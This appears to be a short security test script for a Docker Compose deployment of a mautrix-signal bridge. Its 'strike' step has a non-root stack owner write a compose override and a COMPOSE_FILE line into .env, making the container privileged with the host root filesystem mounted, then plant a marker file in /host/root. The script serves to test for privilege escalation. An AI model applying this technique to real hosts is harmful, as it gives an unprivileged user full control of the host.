# The stack's owner writes COMPOSE_FILE with a second file into .env, which gives the bridge the whole host.
prepare() {
  give_stack
  cp -p $matrix/.env "$kept/env"
}
strike() {
  as guest tee $matrix/extra.yml > /dev/null <<'YAML'
services:
  mautrix-signal:
    privileged: true
    entrypoint: ["/bin/sh", "-c", "id -u > /host/root/ran; exec /docker-run.sh"]
    volumes: ["/:/host"]
YAML
  as guest sh -c "echo COMPOSE_FILE=docker-compose.yml:extra.yml >> $matrix/.env"
}
clean() {
  cat "$kept/env" > $matrix/.env
  rm -f $matrix/extra.yml
  take_stack
}
